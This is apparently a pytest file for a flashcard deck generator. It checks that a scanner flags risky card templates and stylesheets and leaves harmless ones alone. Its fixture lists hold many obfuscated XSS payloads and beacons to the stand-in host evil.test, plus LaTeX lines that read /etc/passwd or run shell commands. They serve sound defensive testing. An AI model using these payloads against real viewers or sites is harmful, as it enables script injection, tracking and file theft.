"""Whatever a stranger's project would make a reader's card load or run is found, however it is written."""

from __future__ import annotations

import re
import shutil

import pytest
from conftest import REPOSITORY, MakeProject, Run
from hypothesis import example, given
from hypothesis import strategies as st

from deckgen.model.template import TemplateError, outcomes
from deckgen.source.template_risks import template_risks

BUILT_IN = REPOSITORY / "deckgen/note_types"
TERM = "name: Term {0}\nlist: terms_{0}\nfields: [{{name: word, required: true}}, {{name: hint}}, {{name: number, type: number}}]\ncards: [{{name: Define}}]\n"
RISKS = r"notetype-(?:remote|script|markup|field-in-tag)|media-active|formula-command"

TEMPLATES = [
    r"""\(\st<b title="1 < 2"></b>yle{background:url(//evil.test/joined)}{x}\){{Word}}""",
    '<img src="https://evil.test/x">',
    "<img src=//evil.test/x>",
    r'<img src="\\evil.test/x">',
    '<img src="ht\ntps://evil.test/x">',
    '<img src="h&Tab;ttps&colon;//evil.test/x">',
    '<img srcset="a.png 1x, https://evil.test/x 2x">',
    '<picture><source srcset="https://evil.test/x"></picture>',
    '<video poster="https://evil.test/x"></video>',
    '<object data="a.svg"></object>',
    '<embed src="a.svg">',
    '<iframe src="page.html"></iframe>',
    '<iframe srcdoc="&lt;script&gt;1&lt;/script&gt;"></iframe>',
    '<link rel=preload as=image imagesrcset="https://evil.test/x 1x">',
    "<link rel=stylesheet href=\"data:text/css,@import 'https://evil.test/x'\">",
    '<table background="https://evil.test/x"></table>',
    '<svg><image xlink:href="https://evil.test/x"/></svg>',
    '<svg><image><set attributeName="href" to="https://evil.test/x"/></image></svg>',
    '<svg><rect fill="url(https://evil.test/x#a)"/></svg>',
    '<svg><style>@import "https://evil.test/x";</style></svg>',
    "<style>a { background: u\\72l(https://evil.test/x) }</style>",
    '<p style="background: \\75rl(https://evil.test/x)"></p>',
    '<p style="background&#58; url(//evil.test/x)"></p>',
    '<base href="//evil.test/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.test/x">',
    '<form action="https://evil.test/x"></form>',
    '<a ping="https://evil.test/x" href="#">x</a>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,x">x</a>',
    '<button formaction="javascript:1">x</button>',
    "<p onclick=1>x</p>",
    "<p ONclick=1>x</p>",
    '<p class="a"onclick=1>x</p>',
    "<p/onclick=1>x</p>",
    "<SCRIPT>1</SCRIPT>",
    "<svg><script>1</script></svg>",
    '<svg><set attributeName="onclick" to="1"/></svg>',
    '<math href="javascript:1">x</math>',
    "<!--><script>1</script>-->",
    "<!--x--!><script>1</script>-->",
    '<textarea><p title="</textarea><script>1</script>">',
    '<style><p title="</style><script>1</script>"></style>',
    '<svg><![CDATA[><image href="https://evil.test/x"/>]]></svg>',
    "<noscript><p></noscript>",
    r"\(\style{background: url(https://evil.test/x)}{x}\)",
    r"\({{Word}}\)",
    "[sound:https://evil.test/x]",
    "[sound:{{Word}}]",
    '<img src="{{Word}}">',
    '<a href="{{text:Word}}">x</a>',
    '<p title="{{Word}}">x</p>',
    "<p title='{{word:own}}'>x</p>",
    '<p title="{{word:when_a}}">x</p>',
    '<img src="{{^Hint}}https:{{/Hint}}//evil.test/x">',
    '<img {{Hint}}src="https://evil.test/x">',
    '<{{Hint}}img src="https://evil.test/x">',
    "<scr{{Hint}}ipt>1</script>",
    "<p o{{Hint}}nclick=1>x</p>",
    "<p {{Word}}>x</p>",
    "<style>{{Word}}</style>",
    '<p title="{{#Hint}}">x{{/Hint}}" onclick=1 id="">',
    '{{#Hint}}<p title="{{/Hint}}a">x</p>',
    '<svg><style>&#64;import "https://evil.test/x";</style></svg>',
    "<p {{#Hint}}onclick=1{{/Hint}}>x</p>",
    "<p o{{#Hint}} {{/Hint}}nclick=1>x</p>",
    '<p class="a"{{#Hint}} {{/Hint}}onclick=1>x</p>',
    '<p {{^Hint}}style="background: url(https://evil.test/x)"{{/Hint}}>x</p>',
    '<img src="{{#Hint}}ht{{/Hint}}{{#Word}}tps{{/Word}}://evil.test/x">',
    '<p {{#Hint}}class="a">x</p><p {{/Hint}}>x</p>',
    '<p title="{{#Hint}}"{{/Hint}} onclick=1 id="">x</p>',
    '<img src="{{#Hint}}a.png{{/Hint}}">',
    '<img src="{{Number}}.png">',
    '<p style="background: url({{#Hint}}a.png{{/Hint}})">x</p>',
    "<scr{{^Hint}}ipt{{/Hint}}>1</script>",
    "<scr{{^Hint}}{{/Hint}}ipt>1</script>",
    '<style>{{#Hint}}@import "https://evil.test/x";{{/Hint}}</style>',
    "<style>{{#Hint}}</style>{{/Hint}}",
    "<style><{{^Hint}}{{/Hint}}b></style>",
    "<p {{#Word}}on{{/Word}}{{#Hint}}click{{/Hint}}=1>x</p>",
    "<p class='{{Tags}}'>x</p>",
    '<a href="{{Tags}}">x</a>',
    '<p style="{{Deck}}">x</p>',
    '<p title="{{FrontSide}}">x</p>',
    '<a ping="/x https://evil.test/x" href="#">x</a>',
    '<svg><animate attributeName="href" values="#a;https://evil.test/x"/></svg>',
    "<textarea>{{Word}}</textarea>",
    "<form><input></form>",
    "<fencedframe></fencedframe>",
    "<nosuch>x</nosuch>",
    '<meta http{{#Hint}}{{/Hint}}-equiv=refresh content="0;url=//evil.test/x">',
    "a<b</p> is text",
    '<p title=a"b">x</p>',
    r"\(\hr{{word:ef}}{javascript:1}{x}\)",
    r"\(\hr{{word:empty}}ef{javascript:1}{x}\)",
    r"{{word:hr}}ef{javascript:1}{x}\)",
    r"{{word:hr}}{{Word}}\)",
    r"\({{word:own}} {{Word}}\)",
    r"\(\st<!--a-->yle{background:url(//evil.test/x)}{x}\)",
    r"\<!--a-->({{Word}}\)",
    r"\(\st</i>yle{background:url(//evil.test/x)}{x}\)",
    r'\(\st<WBR class="a">yle{background:url(//evil.test/x)}{x}\)',
    r"\(\href<br/>{javascript:1}{x}\)",
    r"\{{^Hint}}{{/Hint}}href{javascript:1}{x}",
    '<a href="{{Number}}javascript:1">x</a>',
    '<a href="java{{Number}}script:1">x</a>',
    '<svg><a xlink:href="java{{Number}}script:1">x</a></svg>',
    '<button formaction="java{{Number}}script:1">x</button>',
    '<svg><animate attributeName="href" values="{{Number}}javascript:1"/></svg>',
    '<p style="background:u{{Number}}rl(//evil.test/a)">x</p>',
    r'<p style="background:\7{{Number}}rl(//evil.test/a)">x</p>',
    '<a href="&#10{{Number}};avascript:1">x</a>',
    '<a ping="{{Number}}//evil.test/a" href="#">x</a>',
    "[so{{Number}}und:https://evil.test/x]",
    "{{#Hint}}{{^Number}}[sound:https://evil.test/x]{{/Number}}{{/Hint}}",
    "[so{{word:empty}}und:https://evil.test/x]",
    "[so{{#Hint}}a{{/Hint}}und:https://evil.test/x]",
    r"[latex]\input{/etc/passwd}[/latex]",
    r"[$]\write18{id}[/$]",
    "[la{{word:empty}}tex]x[/latex]",
    '<p title="{{word:quoted}}">x</p>',
    "<!-- {{word:ended}} <script>1</script> -->",
    "<style>/* <script>1</script> */</style>",
    "<style><!-- </style><b> --></style>",
    "a<b and c>d",
    "<!-- never closed",
    '<img src="file:///etc/passwd">',
]
WORDS = r"""
  own: Own
  empty: ''
  ef: ef
  hr: '\(\hr'
  quoted: 'a" onclick=1 title="<b>b</b>'
  ended: a -->
"""
HARMLESS_TEMPLATES = [
    """<p title="1 < 2, a <- b, I <3 it, x <= y" aria-label='{{#Hint}}a < b{{/Hint}}'>{{Word}}</p>""",
    "{{tts-voices:}}{{tts-voices:Word}}{{Word}}",
    '<div class="a {{#Hint}}b{{/Hint}}" data-x="{{word:own}}" style="--n: {{Number}}">{{Word}}</div>',
    '<a href="https://example.org/?a=1&amp;b=2">{{Word}}</a> 1 < 2 &lt; 3 <br/> <input disabled>',
    '<svg viewBox="0 0 1 1"><title>A</title><path d="M0,0" fill="url(#a)" transform="scale(2)"/></svg>{{Word}}',
    '<!-- <img src="https://example.org"> {{Word}} --><img src="data:image/png;base64,AA==" alt="a: b">{{Word}}',
    '<style>@media (width < 600px) { a > b { color: red } }</style><p title="Note: it">{{Word}}</p>',
    r"\(\frac{1}{2}\) {{Word}} [sound:a.mp3]",
    "<div {{^Hint}}hidden{{/Hint}}>{{Word}}</div><div{{#Hint}} class=a{{/Hint}}></div>",
    '<p {{#Hint}}class="a {{^Number}}b{{/Number}}"{{/Hint}} style="{{#Hint}}color: red{{/Hint}}">{{Word}}</p>',
    '<a href="{{#Hint}}#a{{/Hint}}{{^Hint}}#b{{/Hint}}">{{Word}}</a>',
    "<style>{{#Hint}}a { color: red }{{/Hint}}</style>{{Word}}",
    '<div class="{{Tags}} {{Card}}" data-x="{{Deck}}" title="{{Type}} {{Subdeck}} {{CardFlag}}">{{Word}}</div>',
    '<!DOCTYPE html><html><head><meta charset="utf-8"></head><body>{{Word}}<hr id=answer></body></html>',
    '{{FrontSide}}{{tts en_US:Word}} <a href="#">Top</a> <a href="#a">{{hint:Hint}}</a> {{type:Word}}',
    "<details open><summary>A</summary>{{Word}}</details><dialog>a</dialog><template><b>a</b></template>",
    "<select><optgroup><option>a</optgroup></select><textarea rows=2>a</textarea><button>a</button>{{Word}}",
    "<input type=checkbox><progress value=1></progress><meter value=1></meter><output>a</output>{{Word}}",
    "<fieldset><legend>A</legend></fieldset><datalist id=a></datalist><canvas></canvas><slot></slot>{{Word}}",
    "<math><mfrac><mi>x</mi><mn>2</mn></mfrac><msup><mi>x</mi><mn>2</mn></msup></math><my-card>{{Word}}</my-card>",
    '<svg><g><animate attributeName="r" values="1;2" dur="1s"/><animateTransform/></g><foreignObject/></svg>{{Word}}',
    "<ruby>東<rp>(</rp><rt>とう</rt></ruby><nobr>a</nobr><search></search><marquee>a</marquee>{{Word}}",
    r"<!-- {{Hint}} \({{Word}}\) -->{{Word}}",
    '<?xml version="1.0"?><meta property="og:url" content="https://example.org">{{Word}} [{{Hint}}] {{Card}} {{Type}}',
    r'<style>/* <b> */ a::before { content: "a\3c b" }</style><style><!-- a { color: red } --></style>{{Word}}',
    '<img src="about:blank" onload><p hidden class translate data-a foo="">{{word:own}}: {{Word}}</p>',
    '<a href="#{{Number}}" title="&#{{Number}}">{{Word}}</a> costs [$5] \\(x\\) {{Number}}, C:\\a {{Word}}',
]  # fmt: skip
STYLES = [
    "@import url(https://evil.test/x);",
    '@\\69mport "https://evil.test/x";',
    '@import/**/"https://evil.test/x";',
    '@import "data:text/css,@import \\"https://evil.test/x\\"";',
    "a { background: url( //evil.test/x ) }",
    "a { background: u/* */rl(https://evil.test/x) }",
    "a { background: u\\72l(https://evil.test/x) }",
    'a { background: url("ht\\a tps://evil.test/x") }',
    'a { background: image-set("https://evil.test/x" 1x) }',
    'a { background: -webkit-image-set("https://evil.test/x" 1x) }',
    'a { background: image-s\\65t("https://evil.test/x" 1x) }',
    'a { --x: "https://evil.test/x"; background: image-set(var(--x) 1x) }',
    "@font-face { font-family: q; src: local(a), url(https://evil.test/x) }",
    "a { background: url(https://evil.test/x",
    "</style><script>1</script>",
    "@namespace q { } a { background: url(https://evil.test/x) }",
    "@namespace url(http://www.w3.org/2000/svg); a { background: url(https://evil.test/x) }",
]
HARMLESS_STYLES = [
    '@namespace svg url(http://www.w3.org/2000/svg); @namespace url("http://www.w3.org/1999/xhtml"); @namespace "urn:x";',
    "@namespace url(urn:x); svg|a { fill: url(#b) }",
]


def note_types(fronts: list[str], styles: list[str]) -> dict[str, str]:
    files = {}
    for place, (front, style) in enumerate(zip(fronts, styles, strict=True)):
        folder = f"notetypes/t{place}"
        files[f"{folder}/notetype.yaml"] = TERM.format(place)
        files[f"{folder}/define.front.html"] = front
        files[f"{folder}/define.back.html"] = "{{Word}}"
        files[f"{folder}/style.css"] = style
    return files


def test_each_template_that_loads_or_runs_is_found(make_project: MakeProject, run: Run):
    files = note_types([f"{each}{{{{Word}}}}" for each in TEMPLATES], [""] * len(TEMPLATES))
    settings = f"name: Test\nid: test\nwords:{WORDS}"
    report = run("check", make_project({"deckgen.yaml": settings, **files})).stdout
    found = {
        int(place)
        for place in re.findall(rf"notetypes/t(\d+)/\S+ (?:warning|error) (?:{RISKS})", report)
    }  # fmt: skip
    assert [each for place, each in enumerate(TEMPLATES) if place not in found] == []


def test_each_style_that_loads_is_found(make_project: MakeProject, run: Run):
    files = note_types(["{{Word}}"] * len(STYLES), STYLES)
    report = run("check", make_project(files)).stdout
    found = {
        int(place) for place in re.findall(rf"notetypes/t(\d+)/style\.css\S+ warning (?:{RISKS})", report)
    }
    assert [each for place, each in enumerate(STYLES) if place not in found] == []


def test_what_deckgen_brings_itself_gives_no_such_finding(make_project: MakeProject, run: Run):
    root = make_project({})
    for folder in BUILT_IN.iterdir():
        if (folder / "notetype.yaml").is_file():
            shutil.copytree(folder, root / "notetypes" / folder.name)
    run("new", "notetype", "Term", "--project", root)
    shutil.copytree(REPOSITORY / "tests/decks/tenmon/notetypes/kosei", root / "notetypes/kosei")
    report = run("check", root).stdout
    assert re.findall(RISKS, report) == [], report


def test_harmless_templates_give_no_such_finding(make_project: MakeProject, run: Run):
    settings = "name: Test\nid: test\nwords: {own: 'An \"own\" word'}\n"
    kinds = note_types(HARMLESS_TEMPLATES, [""] * len(HARMLESS_TEMPLATES))
    report = run("check", make_project({"deckgen.yaml": settings, **kinds})).stdout
    assert re.findall(rf".*(?:{RISKS}|notetype-template).*", report) == []


def test_an_attribute_that_runs_what_a_field_holds_is_told_of_both(make_project: MakeProject, run: Run):
    front = '<p onclick="new Audio(\'{{Word}}\').play()">x</p><img src="//evil.test/{{Word}}">{{Word}}'
    report = run("check", make_project(note_types([front], [""]))).stdout
    found = re.findall(r"define\.front\.html:\S+: warning (\S+)", report)
    assert sorted(found) == [*["notetype-field-in-tag"] * 2, "notetype-remote", "notetype-script"]


def test_what_stands_behind_a_sign_that_is_no_tag_is_read(make_project: MakeProject, run: Run):
    front = '<p>a<b</p>\n<p class="a"id="b"><img src="https://evil.test/x">{{Word}}</p>'
    report = run("check", make_project(note_types([front], [""]))).stdout
    places = re.findall(r"define\.front\.html:(\S+): warning (\S+)", report)
    assert places == [("1:5", "notetype-markup"), ("2:1", "notetype-markup"), ("2:30", "notetype-remote")]


PIECES = """<p <img class= src= style= href= title= on click =1 " ' > < / x //evil.test/x url(//evil.test) javascript:1
<script> </script> <style> </style> <textarea> </textarea> <svg> <!-- --> {{#A}} {{^A}} {{/A}} {{#B}} {{/B}} {{W}}
\\( \\ href {x} [ sound: ] latex java script: /* */ u rl( = <br> </i>"""


@given(st.lists(st.sampled_from([" ", *PIECES.split()]), max_size=12).map("".join))
@example("<style>x{{#A}}<{{/A}}b")
def test_a_template_without_a_finding_has_none_whichever_fields_are_filled(template: str):
    try:
        seen = list(outcomes(template))
    except TemplateError:
        return
    if not list(template_risks(template, "a.html", {"W"})):
        seen += [each.replace("{{W}}", "") for each in seen]
        assert [each for each in seen if list(template_risks(each, "a.html", {"W"}))] == []


@pytest.mark.parametrize("style", HARMLESS_STYLES)
def test_harmless_styles_give_no_finding(style: str, make_project: MakeProject, run: Run):
    report = run("check", make_project(note_types(["{{Word}}"], [style]))).stdout
    assert "style.css" not in report
